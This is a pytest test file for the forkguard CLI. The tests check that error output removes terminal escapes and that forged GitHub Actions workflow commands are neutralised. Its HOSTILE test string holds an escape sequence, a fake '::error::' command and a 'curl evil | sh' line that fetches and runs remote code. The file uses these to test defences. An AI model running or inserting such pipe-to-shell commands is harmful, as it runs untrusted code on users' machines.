"""What the boundary prints: errors without escapes of strangers, and a log that GitHub's runner does not obey."""

import errno
import os
import re
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from forkguard.cli import main
from forkguard.cli.github_log import command, commands_stopped
from forkguard.errors import CouldNotWork

HOSTILE = "a\x1b]0;owned\x07b\n::error::x\r\u2028  next:  curl evil | sh"


def test_an_error_is_told_without_escapes_and_in_lines_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    main.tell(CouldNotWork(HOSTILE, where=HOSTILE, hint=HOSTILE))
    told = capsys.readouterr().err
    assert all(letter == "\n" or letter.isprintable() for letter in told)
    lines = told.split("\n")
    assert [line for line in lines if re.match(r"forkguard: |  where: |  next:  ", line)] == [
        lines[0],
        lines[3],
        lines[6],
    ]
    assert all(line.startswith("         ") for line in (lines[1], lines[2], lines[4], lines[5], lines[7]))


def test_a_bug_is_told_without_escapes(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object, **__: object) -> None:
        raise ValueError("\x1b[31mred")

    monkeypatch.setattr(main.main, "main", broken)
    assert main.invoke(["status"]) == 4
    assert "\x1b" not in capsys.readouterr().err


def raising(error: Exception, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every command raises this."""

    def broken(*_: object, **__: object) -> None:
        raise error

    monkeypatch.setattr(main.main, "main", broken)


def test_a_bug_that_finds_no_room_for_its_file_is_still_a_bug(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    raising(ValueError("seven"), monkeypatch)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "absent"))
    assert main.invoke(["status"]) == 4
    told = capsys.readouterr().err.splitlines()
    assert told[0] == "forkguard: a bug in forkguard: ValueError: seven"
    assert "         ValueError: seven" in told
    assert told[-1].startswith("  next:  please report it with these lines")


def test_what_the_machine_refuses_is_no_bug(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    raising(OSError(errno.ENOSPC, "No space left on device", "/somewhere/a\x1bfile"), monkeypatch)
    assert main.invoke(["status"]) == 3
    assert capsys.readouterr().err.splitlines() == [
        "forkguard: No space left on device",
        "  where: /somewhere/a\N{REPLACEMENT CHARACTER}file",
        "  next:  make room on that disk, then the same command again; df -h  shows which is full",
    ]
    raising(FileNotFoundError(errno.ENOENT, "No such file or directory", "/x"), monkeypatch)
    assert main.invoke(["status"]) == 4


def piped(code: str, **environment: str) -> "subprocess.Popen[bytes]":
    """Python that runs this in a process of its own, its streams in pipes."""
    return subprocess.Popen(
        [sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=os.environ | environment
    )


def test_a_result_that_nobody_read_is_no_pass() -> None:
    code = (
        "from forkguard.cli import main; from forkguard.cli.options import deliver\n"
        "main.main.main = lambda *_, **__: deliver('x' * 1000000, output=None)\n"
        "import sys; sys.argv = ['forkguard']; main.run()"
    )
    child = piped(code)
    assert child.stdout is not None
    child.stdout.close()
    _, err = child.communicate(timeout=60)
    assert (child.returncode, err) == (3, b"")


def test_a_terminal_that_lacks_a_letter_gets_the_rest() -> None:
    code = (
        "from forkguard.cli import main; from forkguard.cli.options import deliver\n"
        "main.main.main = lambda *_, **__: deliver('na\\u00efve \\u2192 \\udc80', output=None)\n"
        "import sys; sys.argv = ['forkguard']; main.run()"
    )
    child = piped(code, PYTHONIOENCODING="latin-1")
    out, err = child.communicate(timeout=60)
    assert (child.returncode, out, err) == (0, b"na\xefve ? ?\n", b"")


def run(words: list[str], monkeypatch: pytest.MonkeyPatch) -> int:
    """As the console script does."""
    monkeypatch.setattr("sys.argv", ["forkguard", *words])
    monkeypatch.setattr("signal.signal", lambda *_: None)
    with pytest.raises(SystemExit) as ended:
        main.run()
    return int(str(ended.value.code))


def test_in_a_workflow_no_line_is_a_command(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    assert run(["--version"], monkeypatch) == 0
    out, err = capsys.readouterr()
    assert out.startswith("forkguard, version")
    first, last = err.splitlines()
    token = first.removeprefix("::stop-commands::")
    assert re.fullmatch(r"[0-9a-f]{32}", token)
    assert last == f"::{token}::"
    run(["--version"], monkeypatch)
    assert token not in capsys.readouterr().err


def test_elsewhere_nothing_is_added(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    run(["--version"], monkeypatch)
    assert capsys.readouterr().err == ""


def test_commands_of_ours_are_heard(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    with commands_stopped():
        command(["::notice::x"])
    stop, resume, *rest = capsys.readouterr().err.splitlines()
    assert rest == ["::notice::x", stop, resume]
    command(["::notice::y"])
    assert capsys.readouterr().err == "::notice::y\n"
